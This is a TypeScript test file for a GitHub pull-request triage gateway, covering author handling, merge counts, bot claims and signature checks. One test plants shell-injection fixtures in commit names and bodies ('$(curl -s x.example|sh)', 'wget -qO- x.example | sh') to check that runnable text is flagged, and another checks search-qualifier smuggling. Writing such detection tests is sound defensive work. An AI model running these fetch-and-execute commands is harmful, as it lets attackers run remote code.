import { required } from "../../src/errors.ts";
import { describe, expect, test } from "../support/jest.ts";
import { answerQuery, installationGateway, playGithub } from "./support/played.ts";

playGithub();

const actor = { name: "Ada Example", email: "ada@example.org", user: { databaseId: 12 } };
const commit = {
  oid: "b".repeat(40),
  messageHeadline: "Fix",
  authoredDate: "2026-11-20T10:00:00Z",
  committedDate: "2026-11-20T10:00:00Z",
  authoredByCommitter: true,
  committedViaWeb: false,
  author: actor,
  committer: actor,
  authors: { nodes: [{ user: { databaseId: 12 } }, { user: null }] },
  parents: { nodes: [{ oid: "c".repeat(40) }] },
  signature: null,
};
const node = {
  number: 7,
  state: "OPEN",
  updatedAt: "2026-11-20T11:00:00Z",
  createdAt: "2026-11-20T11:00:00Z",
  title: "Fix",
  authorAssociation: "NONE",
  changedFiles: 1,
  additions: 2,
  deletions: 0,
  headRefName: "fix",
  headRefOid: "b".repeat(40),
  author: { __typename: "User", login: "ada-example", id: "U_12", databaseId: 12, createdAt: "2020-01-01T00:00:00Z" },
  commits: { totalCount: 1, nodes: [{ commit }] },
  files: { nodes: [{ path: "a.txt" }] },
};
const data = {
  rateLimit: { cost: 2 },
  here: { issueCount: 4 },
  orgMerged: { issueCount: 1, nodes: [{ mergedBy: { databaseId: 2 }, author: { databaseId: 12 } }] },
  node,
};

const input = {
  repository: { owner: "octo-example", name: "app" },
  pullRequestNodeId: "PR_7",
  authorLogin: "ada-example",
};
async function asked(answer: unknown, authorLogin = input.authorLogin) {
  const gateway = await installationGateway();
  answerQuery("PrTriage", answer);
  return gateway.pullRequest({ ...input, authorLogin });
}
const facts = async (answer: unknown, authorLogin?: string) => required("facts", await asked(answer, authorLogin));
const withCommit = (change: object) => ({
  data: { ...data, node: { ...node, commits: { totalCount: 1, nodes: [{ commit: { ...commit, ...change } }] } } },
});

describe("pull request", () => {
  test("reads one head in full, and keeps neither name nor e-mail of its commits", async () => {
    const found = await facts({ data });
    expect(found).toMatchObject({
      state: "open",
      createdAt: "2026-11-20T11:00:00.000Z",
      openedHereCount: 4,
      mergesInOrganization: { mergedCount: 1, mergerCount: 1 },
      changedLineCount: 2,
      author: { id: 12, nodeId: "U_12", login: "ada-example", kind: "user", createdAt: "2020-01-01T00:00:00.000Z" },
    });
    expect(found.commits[0]).toEqual({
      oid: "b".repeat(40),
      authoredAt: "2026-11-20T10:00:00.000Z",
      committedAt: "2026-11-20T10:00:00.000Z",
      parentOids: ["c".repeat(40)],
      authorAccountId: 12,
      committerAccountId: 12,
      authorAccountIds: [12],
      authoredByCommitter: true,
      committedViaWeb: false,
      claims: null,
      committerClaims: false,
      signature: "none",
      signedByGitHub: false,
      signerAccountId: null,
    });
    expect(JSON.stringify(found)).not.toMatch(/Ada Example|ada@example/);
  });

  test("of bodies and names in commits keeps what a shell would run, and nothing else", async () => {
    const names = { author: { ...actor, name: "$(curl -s x.example|sh)" }, committer: actor };
    const written = { ...commit, ...names, messageBody: 'Said by Ada\n"; wget -qO- x.example | sh; "' };
    const commits = { totalCount: 1, nodes: [{ commit: written }] };
    const body = "Hello from Ada\r\n```\ncurl x | sh\n```\nFixes $(curl -s x.example)";
    const found = await facts({ data: { ...data, node: { ...node, body, commits } } });
    expect(found.runningTexts).toEqual([
      { field: "body", text: "Fixes $(curl -s x.example)" },
      { field: "commit_body", text: '"; wget -qO- x.example | sh; "' },
      { field: "author_name", text: "$(curl -s x.example|sh)" },
    ]);
    expect(JSON.stringify(found)).not.toMatch(/Ada|curl x/);
  });

  test("a deleted author is a ghost without an id", async () => {
    const found = await facts({ data: { ...data, node: { ...node, author: null } } }, "ghost");
    expect(found.author).toEqual({ id: null, nodeId: null, login: "ghost", kind: "ghost", createdAt: null });
  });

  test("an author of a kind that does not exist yet is nobody to assess", async () => {
    const author = { __typename: "Agent", login: "agent-example" };
    expect((await facts({ data: { ...data, node: { ...node, author } } })).author).toMatchObject({
      id: null,
      kind: "ghost",
    });
  });

  test("a renamed author: asked once more under the login of today, and only then", async () => {
    const gateway = await installationGateway();
    answerQuery("PrTriage", { data: { ...data, here: { issueCount: 99 } } });
    const scope = answerQuery("PrTriage", { data });
    let variables: Record<string, string> = {};
    scope.on("request", (_request, _interceptor, body: string) => {
      variables = JSON.parse(body).variables;
    });
    const found = required("facts", await gateway.pullRequest({ ...input, authorLogin: "ada-before-example" }));
    expect(variables.qHere).toContain("author:ada-example");
    expect(found).toMatchObject({ openedHereCount: 4, mergesInOrganization: { mergedCount: 1 } });
    expect(gateway.usage.requests).toBe(2);
  });

  test("a renamed author whom GitHub does not answer about again: the counts of whoever has the old login are not used", async () => {
    const gateway = await installationGateway();
    answerQuery("PrTriage", { data });
    answerQuery("PrTriage", { message: "Bad Gateway" }, 502);
    const found = required("facts", await gateway.pullRequest({ ...input, authorLogin: "ada-before-example" }));
    expect(found).toMatchObject({ headSha: node.headRefOid, openedHereCount: null, mergesInOrganization: null });
  });

  test("letter case is no other login", async () => {
    expect(await facts({ data }, "Ada-Example")).toMatchObject({ openedHereCount: 4 });
  });

  test("an App's pull request is asked for and counted under its search name", async () => {
    const author = { __typename: "Bot", login: "helper", id: "BOT_1", databaseId: 99 };
    const found = await facts({ data: { ...data, node: { ...node, author } } }, "helper[bot]");
    expect(found).toMatchObject({ openedHereCount: 4, author: { kind: "bot", id: 99 } });
  });
});

describe("pull request: what GitHub shows in part or not at all", () => {
  test("a failed search is a missing count, not zero", async () => {
    const errors = [{ type: "SERVICE_UNAVAILABLE", path: ["here"], message: "down" }];
    expect(await facts({ data: { ...data, here: null }, errors })).toMatchObject({ openedHereCount: null });
  });

  test("merges of which GitHub could not show who made them are unknown, unless two people are known all the same", async () => {
    const errors = [{ type: "SERVICE_UNAVAILABLE", path: ["orgMerged", "nodes", 2], message: "down" }];
    const nodes = [...data.orgMerged.nodes, { mergedBy: { databaseId: 3 }, author: { databaseId: 12 } }, null];
    const one = { ...data, orgMerged: { issueCount: 3, nodes: [nodes[0], null, null] } };
    expect(await facts({ data: one, errors })).toMatchObject({ mergesInOrganization: null });
    const two = { ...data, orgMerged: { issueCount: 3, nodes } };
    const found = { mergedCount: 3, mergerCount: 2, mergersUnseen: true };
    expect(await facts({ data: two, errors })).toMatchObject({ mergesInOrganization: found });
    expect(await facts({ data: { ...data, orgMerged: null } })).toMatchObject({ mergesInOrganization: null });
  });

  test("commits that GitHub hides or answers in part are left out altogether", async () => {
    const hidden = await facts({ data: { ...data, node: { ...node, commits: null } } });
    expect(hidden.commits).toEqual([]);
    const errors = [{ type: "FORBIDDEN", path: ["node", "commits", "nodes", 0, "commit", "signature"], message: "no" }];
    expect((await facts({ data, errors })).commits).toEqual([]);
  });

  test("a commit that cannot be read costs itself alone, and the count betrays it", async () => {
    const far = { commit: { ...commit, oid: "d".repeat(40), authoredDate: "10000-01-01T00:00:00Z" } };
    const found = await facts({
      data: { ...data, node: { ...node, commits: { totalCount: 2, nodes: [{ commit }, far] } } },
    });
    expect(found).toMatchObject({ commits: [{ oid: "b".repeat(40) }], commitSubjects: ["Fix"], commitCount: 2 });
  });

  test("connections without nodes leave the rest of the answer standing", async () => {
    const bare = { ...node, commits: { totalCount: 1, nodes: null }, files: { nodes: null } };
    expect(await facts({ data: { ...data, node: bare } })).toMatchObject({ commits: [], commitCount: 1, paths: [] });
    const shapeless = { ...node, commits: { nodes: 7 }, files: "none" };
    expect(await facts({ data: { ...data, node: shapeless } })).toMatchObject({ commits: [], paths: [] });
  });

  test("a state that does not exist yet is read as open", async () => {
    const found = await facts({ data: { ...data, node: { ...node, state: "QUEUED" } } });
    expect(found).toMatchObject({ state: "open" });
  });

  test("no such pull request: not_found; an author that may not be shown: forbidden", async () => {
    expect(await asked({ data: { ...data, node: null } })).toMatchObject({ ok: false, reason: "not_found" });
    const errors = [{ type: "FORBIDDEN", path: ["node", "author"], message: "no" }];
    const answer = await asked({ data: { ...data, node: { ...node, author: null } }, errors });
    expect(answer).toMatchObject({ ok: false, reason: "forbidden" });
  });

  test("a name cannot smuggle a search qualifier", async () => {
    const gateway = await installationGateway();
    const scope = answerQuery("PrTriage", { data });
    let variables: Record<string, string> = {};
    scope.on("request", (_request, _interceptor, body: string) => {
      variables = JSON.parse(body).variables;
    });
    await gateway.pullRequest({ ...input, authorLogin: "ada-example is:merged repo:x/y" });
    expect(variables.qHere).toBe("repo:octo-example/app author:ada-exampleismergedrepoxy type:pr");
  });
});

describe("bot claims", () => {
  const github = { name: "GitHub", email: "noreply@github.com", user: null };
  for (const [who, change, claims] of [
    [
      "dependabot by address",
      { author: { ...actor, email: "49699333+dependabot[bot]@users.noreply.github.com" } },
      "dependabot",
    ],
    ["dependabot by name, letter case aside", { author: { ...actor, name: " Dependabot[bot] " } }, "dependabot"],
    ["renovate by committer", { committer: { ...actor, name: "renovate[bot]" } }, "renovate"],
    [
      "github-actions",
      { author: { ...actor, email: "github-actions[bot]@users.noreply.github.com" } },
      "github-actions",
    ],
    ["the web interface as committer", { committer: github }, "web-flow"],
    [
      "a bot through the web interface",
      { author: { ...actor, name: "dependabot[bot]" }, committer: github },
      "dependabot",
    ],
    [
      "another automation by its address",
      { author: { ...actor, name: "x", email: "7+mergify[bot]@users.noreply.github.com" } },
      "automation",
    ],
    ["one that pushes to others' branches", { author: { ...actor, name: "pre-commit-ci[bot]", user: null } }, "guest"],
    ["a name that reads like one", { author: { ...actor, name: "dependab0t[bot]", user: null } }, "look-alike"],
    ["a machine without an account", { author: { ...actor, name: "ci-bot", user: null } }, "machine"],
    ["a machine with an account of its own", { author: { ...actor, name: "ci-bot" } }, null],
    ["somebody who mentions a bot", { author: { ...actor, name: "not dependabot[bot]" } }, null],
    ["an actor GitHub does not show", { author: null, committer: null }, null],
  ] as const)
    test(`${who}: ${claims}`, async () => {
      expect((await facts(withCommit(change))).commits[0]?.claims).toBe(claims);
    });
});

describe("signatures", () => {
  const signature = { isValid: true, state: "VALID", wasSignedByGitHub: false, signer: { databaseId: 12 } };
  for (const [what, given, expected] of [
    ["valid", signature, { signature: "valid", signerAccountId: 12, signedByGitHub: false }],
    [
      "GitHub's own",
      { ...signature, wasSignedByGitHub: true, signer: null },
      { signature: "valid", signedByGitHub: true },
    ],
    [
      "of an unknown key",
      { ...signature, isValid: false, state: "UNKNOWN_KEY" },
      { signature: "invalid", signerAccountId: null },
    ],
    [
      "invalid but claimed to be GitHub's",
      { ...signature, isValid: false, state: "INVALID", wasSignedByGitHub: true },
      { signedByGitHub: false },
    ],
    ["none", null, { signature: "none" }],
  ] as const)
    test(`${what}`, async () => {
      expect((await facts(withCommit({ signature: given }))).commits[0]).toMatchObject(expected);
    });
});
